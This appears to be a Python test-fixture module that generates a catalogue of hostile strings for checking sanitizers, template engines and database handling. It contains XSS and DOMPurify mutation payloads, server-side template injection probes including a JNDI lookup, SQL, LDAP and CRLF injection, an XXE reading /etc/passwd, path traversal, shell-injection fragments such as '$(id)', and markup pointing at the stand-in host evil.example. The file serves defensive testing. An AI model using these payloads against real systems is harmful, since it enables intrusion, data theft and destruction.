"""Texts that mean harm, made from a few lists: what a browser might run, a template fill in, a database refuse.

Each that tries to become markup bears ``data-pwned``: an element with this attribute is markup that got through, even
where the content policy keeps its script from running. Sources: OWASP XSS filter evasion; the mutation vectors of
DOMPurify's advisories (2019 to 2024); reliability brief §3.2.
"""

from __future__ import annotations

import itertools

RUN = "alert(document.domain)"
MARK = "data-pwned"
RECKONED = "6391"  # 913*7: in no payload, and on a page only if a template engine reckoned
TAGS = [
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=/x", "object data=x",
    "marquee", "select autofocus", "style", "math", "a href=x", "button autofocus", "embed src=x", "textarea autofocus", "div",
]  # fmt: skip
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onbegin", "onstart"]  # fmt: skip
BREAKS = [
    '">', "'>", ">", "-->", "</script>", "</textarea>", "</title>", "</style>", "</option></select>", "</svg>", "]]>", "`>", '\\">',
    "&quot;&gt;", "%22%3E", "\\u0022\\u003e", "＂＞", "\x00>", "</noscript>", "</template>", "</a>", "</td></table>", "?>",
]  # fmt: skip
BROKEN_INTO = [
    f"<script {MARK}>{RUN}</script>", f"<img {MARK} src=x onerror={RUN}>", f"<svg {MARK}/onload={RUN}>", f"<b {MARK}>",
]  # fmt: skip
ATTRIBUTES = [
    f"{quote}{gap}{MARK}=1{gap}{event}={quote}{RUN}"
    for quote in ('"', "'", "`", "")
    for gap in (" ", "\t", "\n", "/")
    for event in ("onfocus", "onmouseover", "style", "hx-on:load")
]
SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
    "&#106;avascript:", "javascript://%0a", "vbscript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "blob:",
    "//evil.example/", "https://evil.example/", "feed:javascript:", "file:///etc/passwd",
]  # fmt: skip
IN_MARKDOWN = [
    "{}",
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x][y]\n\n[y]: {}",
    "<a data-pwned href='{}'>x</a>",
]
MUTATING = [
    '<noscript><p title="</noscript><img data-pwned src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img data-pwned src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-pwned src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img data-pwned src onerror=alert(1)>",
    '<math><mi></mi><annotation-xml encoding="text/html"><svg data-pwned onload=alert(1)>',
    "<svg><![CDATA[><image data-pwned xlink:href='x' onerror=alert(1)>]]>",
    "<!--><img data-pwned src=x onerror=alert(1)>-->",
    "<select><template><style><!--</style><a data-pwned rel='--></style></template></select><img src onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1) data-pwned>'>", "<plaintext data-pwned>", "<base data-pwned href=//evil.example/>",
    "<meta data-pwned http-equiv=refresh content='0;url=//evil.example'>", "<link data-pwned rel=stylesheet href=//evil.example/x.css>",
    "<form data-pwned action=//evil.example><button>继续</button></form>", "<div data-pwned style='position:fixed;inset:0'>",
    "<style data-pwned>*{display:none}</style>", "<iframe data-pwned srcdoc='<script>parent.alert(1)</script>'>",
    "<div data-pwned hx-get=/me/ hx-trigger=load>", "<div data-pwned hx-on::load=alert(1)>", "<b data-pwned hx-ext=x>" + "<b>" * 3_000,
]  # fmt: skip
TEMPLATES = [
    "{{913*7}}", "${913*7}", "#{913*7}", "<%= 913*7 %>", "{%print(913*7)%}", "*{913*7}", "@(913*7)", "{{=913*7}}", "[[913*7]]",
    "{% include 'base.html' %}", "{% load static %}{% static 'x' %}", "{user.__class__.__mro__}", "{0.__init__.__globals__}", "%(password)s",
    "%s%s%s%n", "{}", "{", "}", "{{", "%", "%%", "$$", "\\1\\g<0>", "${jndi:ldap://127.0.0.1/a}", "$(id)", "`id`", "|id", ";id;", "=1+1",
]  # fmt: skip
STRUCTURES = [
    "' OR '1'='1", "'; DROP TABLE accounts_user; --", '" OR ""="', "\\'; --", "1) UNION SELECT NULL --", "%' AND pg_sleep(0) --", "*)(uid=*))(|(uid=*",
    "x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "x\n2026-01-01 ERROR forged", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "../../etc/passwd", "..\\..\\win.ini", "CON", "null", "undefined", "NaN", "[object Object]", "true", "-0", "1e308", "9" * 400, "０１２", "٣٣٣",
    "!@#$%^&*()_+-=[]{}|;':\",./<>?", "a" * 2_000, "字" * 2_000,
]  # fmt: skip
SIGNS = [
    "\x00", "名\x00字", "\ud842", "名\udfff字", "\ufeff名", "\u202e名字\u202c", "\u2066名\u2069", "\u200b", "\u2028", "\u2029", "\x0b", "\x1b[31m", "\x7f",
    "\x85", "\ufffd", "\ufffe", "\ue000", "\U000e0001", "\U0010ffff", "𠮷㛃䶮𬱖𪚥漷", "葛\U000e0100", "周·白露", "👩‍👩‍👧‍👦", "e" + "\u0301" * 10_000,
    "ﷺ" * 20, "\u0300", "İı", "ß", "ﬁ", "Ω≠Ω", "\t", " ", "　", "",
]  # fmt: skip


def hostile_texts() -> list[str]:
    """All of them, each once, in the same order each time."""
    made = [
        *(f"<{tag} {MARK} {event}={RUN}>" for tag, event in itertools.product(TAGS, EVENTS)),
        *(start + markup for start, markup in itertools.product(BREAKS, BROKEN_INTO)),
        *ATTRIBUTES,
        *(form.format(scheme + RUN) for form, scheme in itertools.product(IN_MARKDOWN, SCHEMES)),
        *(f"<a {MARK} href='{scheme}{RUN}'>x</a>" for scheme in SCHEMES),
        *MUTATING, *TEMPLATES, *STRUCTURES, *SIGNS,
    ]  # fmt: skip
    return list(dict.fromkeys(made))
